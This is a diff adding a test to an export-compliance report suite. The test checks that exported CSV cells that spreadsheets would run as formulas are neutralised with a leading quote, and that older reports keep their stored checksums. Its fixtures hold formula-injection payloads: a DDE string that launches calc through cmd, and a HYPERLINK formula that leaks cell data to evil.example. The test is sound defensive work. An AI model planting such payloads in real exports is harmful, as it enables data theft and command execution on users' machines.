@@ -83,6 +83,48 @@ describe('export-compliance report', () => {
     }
   });
 
+  it('files cells a spreadsheet would run as formulas with a leading quote, and keeps older filings as they were filed', async () => {
+    const db = await openDb(server.config.databaseUrl);
+    try {
+      const hostile = { type: 'business', name: '@SUM(1+1)*cmd|\' /C calc\'!A0', organization: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', address: '+1 Road', country: 'DK' };
+      const tabbed = { type: 'business', name: '\tTab Person', organization: '-2+3 ApS', address: '\r2 Lane', country: 'DK' };
+      const first = await issueLicense(server, 1, { customer: hostile });
+      const second = await issueLicense(server, 1, { customer: tabbed });
+      const today = new Date().toISOString().slice(0, 10);
+      const filed = await admin('/v1/admin/reports/export', { from: today, to: today });
+      assert.equal(filed.status, 201);
+      const csv = (await download(filed.body.report.id, 'csv')).body;
+      const lines = csv.toString('utf8').split('\r\n');
+      const row = (licenseId: number) => lines.find((l) => l.includes(`,DK,${licenseId},permanent,`)) ?? '';
+      assert.ok(row(first.id).startsWith(`purchase,${today},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",'@SUM(1+1)*cmd|' /C calc'!A0,'+1 Road,DK,${first.id},`), row(first.id));
+      assert.ok(row(second.id).startsWith(`purchase,${today},'-2+3 ApS,'\tTab Person,"'\r2 Lane",DK,${second.id},`), JSON.stringify(row(second.id)));
+      // The checksum covers the neutralised bytes, and every download gives them again.
+      assert.equal(createHash('sha256').update(csv).digest('hex'), filed.body.report.checksum);
+      assert.ok((await download(filed.body.report.id, 'csv')).body.equals(csv));
+      // JSON keeps the values as given.
+      const json = JSON.parse((await download(filed.body.report.id, 'json')).body.toString('utf8'));
+      const rows = json.rows.filter((r: { country: string }) => r.country === 'DK');
+      assert.deepEqual(rows.map((r: { organization: string; contactName: string; address: string }) => [r.organization, r.contactName, r.address]), [
+        [hostile.organization, hostile.name, hostile.address],
+        [tabbed.organization, tabbed.name, tabbed.address],
+      ]);
+
+      // A report filed before formulas were neutralised (format 1) renders as it was filed, matching its stored checksum.
+      const [[stored]] = (await db.query('SELECT csv_format FROM export_reports WHERE id = ?', [filed.body.report.id])) as unknown as [{ csv_format: number }[]];
+      assert.equal(stored!.csv_format, 2);
+      // What the code before format 2 wrote for the same rows: the cells without their quote.
+      const asFiledBefore = csv.toString('utf8').replace(/(^|,)("?)'(?=[=+\-@\t\r])/gm, '$1$2');
+      assert.match(asFiledBefore, /,"=HYPERLINK\(""http/);
+      await db.query('UPDATE export_reports SET csv_format = 1, csv_sha256 = ? WHERE id = ?', [createHash('sha256').update(asFiledBefore).digest('hex'), filed.body.report.id]);
+      const old = await download(filed.body.report.id, 'csv');
+      assert.equal(old.body.toString('utf8'), asFiledBefore);
+      const res = await fetch(`${server.url}/v1/admin/reports/${filed.body.report.id}.csv`, { headers: { authorization: `Bearer ${server.adminToken}` } });
+      assert.equal(res.headers.get('x-csv-sha256'), createHash('sha256').update(Buffer.from(await res.arrayBuffer())).digest('hex'));
+    } finally {
+      await db.end();
+    }
+  });
+
   it('refuses a period that ends before it starts, a bad date, and an unknown report, each with a code', async () => {
     const backwards = await admin('/v1/admin/reports/export', { from: '2026-07-01', to: '2026-01-01' });
     assert.equal(backwards.status, 400);
